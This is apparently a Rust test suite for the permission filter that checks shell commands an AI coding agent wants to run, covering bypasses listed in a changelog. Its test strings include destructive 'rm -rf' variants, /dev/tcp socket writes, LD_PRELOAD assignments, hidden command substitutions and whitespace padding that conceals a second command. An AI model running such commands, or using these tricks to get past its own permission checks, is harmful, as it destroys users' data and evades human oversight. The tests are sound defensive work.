//! Ways past the filter that the public changelog of Claude Code tells of:
//! versions 2.1.6, 2.1.7, 2.1.78, 2.1.98, 2.1.113, 2.1.145, 2.1.149, 2.1.214,
//! 2.1.216, 2.1.221 and 2.1.223.

use permission::Verdict;
use protocol::PermissionMode;

use crate::{Door, asked, asks, dangers, is_allowed, is_denied, passes};

/// Held by `bash.continuation`, by the words of `lex/words.rs`, which go on
/// in the next line, and by `unfold::join_lines`.
#[test]
fn a_line_continuation_splits_nothing_from_sight() {
    dangers(&[
        ("find . -ex\\\nec touch x \\;", "bash.exec_option"),
        ("r\\\nm -rf src", "bash.destroy"),
        ("echo \"$\\\n(rm -rf src)\"", "bash.destroy"),
        ("cat <\\\n(rm -rf src)", "bash.destroy"),
    ]);
    asks(&[("ls -l\\\na", "bash.continuation")]);
    passes(&["ls \\\n -la"]);
}

/// Held by `Gate::allowed`: a rule has to answer for every command.
#[test]
fn a_wildcard_of_a_rule_reaches_over_no_operator() {
    let door = Door::with_rules(&["Bash(cargo test *)"], &[]);
    assert!(is_allowed(
        &door.run("cargo test --lib", PermissionMode::Ask)
    ));
    assert!(is_allowed(&door.run("cargo test; ls", PermissionMode::Ask)));
    for command in [
        "cargo test; touch x",
        "cargo test && touch x",
        "cargo test || touch x",
        "cargo test | tee x",
        "cargo test & touch x",
        "cargo test\ntouch x",
        "cargo test $(touch x)",
        "cargo test <(touch x)",
        "cargo test > x",
        "cargo test $x",
    ] {
        let verdict = door.run(command, PermissionMode::Ask);
        assert!(
            matches!(verdict, Verdict::Ask(_)),
            "{command:?}: {verdict:?}"
        );
    }
}

/// Held by the escapes of `lex/words.rs`.
#[test]
fn an_escaped_flag_is_the_same_flag() {
    dangers(&[
        ("find . -ex\\ec id \\;", "bash.exec_option"),
        ("rg x \\--pre=sh", "bash.exec_option"),
        ("rg x -'-pre'=sh", "bash.exec_option"),
        ("sort \"-\"o x README.md", "bash.exec_option"),
        ("rm $'\\x2drf' src", "bash.destroy"),
    ]);
}

/// Held by `bash.assignment`.
#[test]
fn a_variable_nobody_knows_asks_before_a_command() {
    asks(&[
        ("FOO=bar ls", "bash.assignment"),
        ("foo= ls", "bash.assignment"),
        ("env FOO=bar ls", "bash.assignment"),
    ]);
    let door = Door::with_rules(&["Bash(cargo test *)"], &[]);
    let verdict = door.run("FOO=bar cargo test", PermissionMode::Ask);
    assert!(matches!(verdict, Verdict::Ask(_)), "{verdict:?}");
}

/// Held by `bash.socket`.
#[test]
fn a_path_that_is_a_socket_is_one() {
    dangers(&[
        ("cat < /dev/tcp/x.example/80", "bash.socket"),
        ("echo x > /dev/tcp/x.example/80", "bash.socket"),
        ("exec 3<>/dev/udp/x.example/53", "bash.socket"),
        ("echo x >'/dev'/tcp/x.example/80", "bash.socket"),
    ]);
}

/// Held by `unfold::inner_commands`, for findings and for rules.
#[test]
fn a_wrapper_hides_no_command() {
    let door = Door::with_rules(&[], &["Bash(rm *)"]);
    for wrapper in [
        "nice setsid",
        "timeout 5",
        "timeout -k 1 5",
        "stdbuf -o0",
        "env -i A=b",
        "nohup",
        "busybox",
        "command",
        "exec",
        "builtin command",
        "time",
        "xargs -t",
        "ionice -c 3",
        "watch -n 1",
    ] {
        let command = format!("{wrapper} rm -rf src");
        dangers(&[(&command, "bash.destroy")]);
        let verdict = door.run(&format!("{wrapper} rm x"), PermissionMode::Bypass);
        assert!(is_denied(&verdict), "{wrapper}: {verdict:?}");
    }
}

/// Held by `bash.assignment`.
#[test]
fn a_bare_assignment_is_no_empty_command() {
    dangers(&[
        ("PATH=.", "bash.assignment"),
        ("IFS=/", "bash.assignment"),
        ("ls; LD_PRELOAD=./x.so", "bash.assignment"),
        ("BASH_ENV=x && ls", "bash.assignment"),
    ]);
    asks(&[
        ("FOO=bar", "bash.assignment"),
        ("FOO+=bar; ls", "bash.assignment"),
    ]);
}

/// Held by `flow::follow`: a folder that could not be entered leaves the
/// old one.
#[test]
fn a_folder_is_not_believed_to_be_entered() {
    passes(&["cd src && cat ../README.md"]);
    asks(&[
        ("cd src; cat ../README.md", "bash.outside"),
        ("cd src || cat ../README.md", "bash.outside"),
        ("cd src && ls; cat ../README.md", "bash.outside"),
        ("cd src && cd .. && cd .. && ls", "bash.outside"),
        ("cd src && cd -", "bash.option"),
        ("cd", "bash.option"),
    ]);
}

/// Held by `Redirect::writes` under `bash.protected_write` and
/// `bash.redirect`.
#[test]
fn every_form_of_writing_is_a_write() {
    for form in [
        ">", "1>", ">>", "2>>", "&>", "&>>", ">&", ">|", "<>", "{fd}>", "3>", "9<>",
    ] {
        let command = format!("echo x {form}.bashrc");
        dangers(&[(&command, "bash.protected_write")]);
        asks(&[(&format!("echo x {form}src/x"), "bash.redirect")]);
    }
    asks(&[
        ("echo x >&2-", "bash.redirect"),
        ("cat <&x", "bash.redirect"),
    ]);
    passes(&["ls 2>&1", "ls >/dev/null 2>&1", "ls >&2"]);
}

/// Held by `bash.too_long`.
#[test]
fn a_text_too_long_to_read_asks() {
    asks(&[(&format!("echo {}", "a".repeat(10_000)), "bash.too_long")]);
    asks(&[(&"ls;".repeat(60), "bash.too_long")]);
    let hidden = format!("echo {}; rm -rf src", "a".repeat(10_000));
    dangers(&[(&hidden, "bash.destroy")]);
    passes(&[&format!("echo {}", "a".repeat(9_000))]);
}

/// Held by `Lexer::condition`, `schema::test::condition`, `bash.subscript` and
/// `bash.zsh`.
#[test]
fn double_brackets_evaluate_nothing_unasked() {
    asks(&[
        ("[[ ( -f x ) ]]", "bash.compound"),
        ("[[ =ls == x ]]", "bash.zsh"),
        ("[[ -v x ]] && ls", "bash.compound"),
        ("[[ x -eq y ]]", "bash.option"),
    ]);
    passes(&["[[ -f x ]]", "[[ x == y ]] && ls"]);
    dangers(&[
        ("[[ -v 'x[$(id)]' ]]", "bash.subscript"),
        ("[[ a -eq 'x[$(id)]' ]]", "bash.subscript"),
        ("test -v 'x[$(id)]'", "bash.subscript"),
    ]);
}

/// Held by `bash.padding` and by `bytes::visible`, which the question shows.
#[test]
fn padding_hides_no_text() {
    let command = format!("ls{}; touch x", " ".repeat(200));
    dangers(&[
        (&command, "bash.padding"),
        (&format!("ls{}&& ls", "\t".repeat(60)), "bash.padding"),
        (&format!("ls{}ls", "\n".repeat(60)), "bash.padding"),
    ]);
    let request = asked(Door::new().run(&command, PermissionMode::Ask));
    assert!(
        request.subject.ends_with("⟨200 blanks⟩ ; touch x"),
        "{}",
        request.subject
    );
}

/// 2.1.78, 2.1.83: without its sandbox the mode went on as if it were there.
/// Held by `Gate::judge`, which then takes `auto` for `ask`.
#[test]
fn no_sandbox_means_asking() {
    let mut door = Door::new();
    let verdict = door.run("touch x", PermissionMode::Auto);
    assert!(matches!(verdict, Verdict::Ask(_)), "{verdict:?}");
    let verdict = door.write("src/x", PermissionMode::Auto);
    assert!(matches!(verdict, Verdict::Ask(_)), "{verdict:?}");
    door.gate.set_sandbox(Some(Vec::new()));
    match door.run("touch x", PermissionMode::Auto) {
        Verdict::Allow(grant) => assert!(grant.confinement().is_some()),
        other => panic!("{other:?}"),
    }
}
